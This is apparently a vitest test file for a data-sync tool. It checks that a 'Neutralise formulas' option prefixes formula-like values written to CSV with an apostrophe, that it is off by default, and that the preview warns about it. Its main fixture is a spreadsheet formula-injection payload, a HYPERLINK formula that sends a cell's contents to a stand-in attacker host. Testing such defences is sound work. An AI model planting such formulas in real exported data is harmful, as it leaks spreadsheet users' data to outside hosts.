// Formulas written into a CSV app (issue 13 §3): with "Neutralise formulas" on, a formula-like
// value from the other app lands in the file with a leading apostrophe, and reading it back is not
// an edit of the app (no write-back loop); off (the default), the file gets the value as it is.
import { readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { parse } from 'csv-parse/sync';
import { afterEach, describe, expect, it } from 'vitest';
import { appInsert, appRows, appUpdate, basePairConfig, createApp, removeDir, startEngine, syncAndWait, tempDir, type Kit } from '../../sync/test-kit.fixture';
import { neutralise, unneutralise } from './formulas';

const FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")';

async function csvPair(neutraliseFormulas: boolean | undefined) {
  const dir = tempDir('concord-csv-formulas-');
  const left = join(dir, 'left.sqlite');
  const path = join(dir, 'people.csv');
  createApp(left);
  writeFileSync(path, 'email,name\n');
  const kit = startEngine(dir, join(dir, 'data'));
  const l = await kit.call('connections/create', { name: 'CRM', connector: 'sqlite-table', config: { path: left } });
  const r = await kit.call('connections/create', { name: 'Sheet', connector: 'csv-file', config: { path, ...(neutraliseFormulas === undefined ? {} : { neutraliseFormulas }) } });
  const config = basePairConfig(l.id, r.id, {
    right: { connectionId: r.id, collection: 'people.csv', changeDetection: 'hash' },
    fields: [
      { name: 'email', type: 'string', left: { fields: ['email'] }, right: { fields: ['email'] }, direction: 'both' },
      { name: 'name', type: 'string', left: { fields: ['name'] }, right: { fields: ['name'] }, direction: 'both' },
    ],
  });
  const pair = await kit.call('pairs/create', { config });
  return { dir, left, path, kit, pairId: pair.id, rightId: r.id };
}
const names = (path: string) => (parse(readFileSync(path), { columns: true }) as Record<string, string>[]).map((r) => r.name);
const writes = (c: { created: number; updated: number; deleted: number }) => c.created + c.updated + c.deleted;

describe('neutralise / unneutralise', () => {
  it('round-trips every string, and marks only formula starts (not plain numbers)', () => {
    for (const v of [FORMULA, '+1+2', '-A1', '@SUM(A1)', '\tx', '\rx', "'=x", "''=x", "'hello", 'plain', '-5', '+3.2', '', "'", "'-5"]) expect(unneutralise(neutralise(v))).toBe(v);
    expect(neutralise(FORMULA)).toBe(`'${FORMULA}`);
    expect(neutralise('@SUM(A1)')).toBe("'@SUM(A1)");
    expect(neutralise('-5')).toBe('-5');
    expect(neutralise("'hello")).toBe("'hello");
  });
});

describe('csv-file "Neutralise formulas"', () => {
  let kit: Kit | null = null;
  let dir = '';
  afterEach(async () => {
    await kit?.close();
    kit = null;
    removeDir(dir);
  });

  it('writes a formula from the other app with a leading apostrophe, and the next runs write nothing either way', async () => {
    const s = await csvPair(true);
    kit = s.kit;
    dir = s.dir;
    appInsert(s.left, { email: 'ann@x', name: FORMULA, score: null });
    appInsert(s.left, { email: 'bob@x', name: "'=already quoted", score: null });
    expect((await syncAndWait(kit, s.pairId)).counts).toMatchObject({ created: 2 });
    expect(names(s.path)).toEqual([`'${FORMULA}`, "''=already quoted"]);
    // Read back, the apostrophe is not an edit of the sheet: nothing goes back to the CRM, twice over.
    for (let i = 0; i < 2; i++) expect(writes((await syncAndWait(kit, s.pairId)).counts)).toBe(0);
    // A full resync compares every value with the base: the apostrophe is no drift either.
    expect(writes((await syncAndWait(kit, s.pairId, true)).counts)).toBe(0);
    expect(appRows(s.left).map((r) => r.name)).toEqual([FORMULA, "'=already quoted"]);
    // The sheet's user edits another cell of those rows: the whole row is read, and its name is still the synced value.
    writeFileSync(s.path, readFileSync(s.path, 'utf8').replace('ann@x', 'ann@y').replace('bob@x', 'bob@y'));
    expect((await syncAndWait(kit, s.pairId)).counts).toMatchObject({ updated: 2 });
    expect(appRows(s.left).map((r) => [r.email, r.name])).toEqual([['ann@y', FORMULA], ['bob@y', "'=already quoted"]]);
    expect(writes((await syncAndWait(kit, s.pairId)).counts)).toBe(0);
    // An edit in the CRM to another formula is written neutralised too, once.
    appUpdate(s.left, 1, { name: '@SUM(A1:A9)' });
    expect((await syncAndWait(kit, s.pairId)).counts).toMatchObject({ updated: 1 });
    expect(names(s.path)[0]).toBe("'@SUM(A1:A9)");
    expect(writes((await syncAndWait(kit, s.pairId)).counts)).toBe(0);
    // The sheet's user types a formula the spreadsheet way ('=…): the CRM gets the formula's text.
    writeFileSync(s.path, readFileSync(s.path, 'utf8').replace("'@SUM(A1:A9)", "'=1+1"));
    expect((await syncAndWait(kit, s.pairId)).counts).toMatchObject({ updated: 1 });
    expect(appRows(s.left)[0]?.name).toBe('=1+1');
    expect(writes((await syncAndWait(kit, s.pairId)).counts)).toBe(0);
  });

  it('is off by default: the value is written as the other app holds it', async () => {
    const s = await csvPair(undefined);
    kit = s.kit;
    dir = s.dir;
    appInsert(s.left, { email: 'ann@x', name: FORMULA, score: null });
    await syncAndWait(kit, s.pairId);
    expect(names(s.path)).toEqual([FORMULA]);
    expect(writes((await syncAndWait(kit, s.pairId)).counts)).toBe(0);
  });

  it('the preview warns, naming the setting, while the CSV app would receive formula-like values and the setting is off', async () => {
    const s = await csvPair(false);
    kit = s.kit;
    dir = s.dir;
    appInsert(s.left, { email: 'ann@x', name: FORMULA, score: null });
    appInsert(s.left, { email: 'bob@x', name: 'Bob', score: null });
    const preview = await kit.call('pairs/preview', { pairId: s.pairId });
    expect(preview.formulas).toEqual([{ side: 'right', connectionId: s.rightId, setting: 'neutraliseFormulas', settingLabel: 'Neutralise formulas', count: 1, examples: [{ key: 'email=ann@x', field: 'name', value: FORMULA }] }]);
    await kit.call('connections/update', { connectionId: s.rightId, config: { path: s.path, neutraliseFormulas: true } });
    expect((await kit.call('pairs/preview', { pairId: s.pairId })).formulas).toBeUndefined();
  });
});
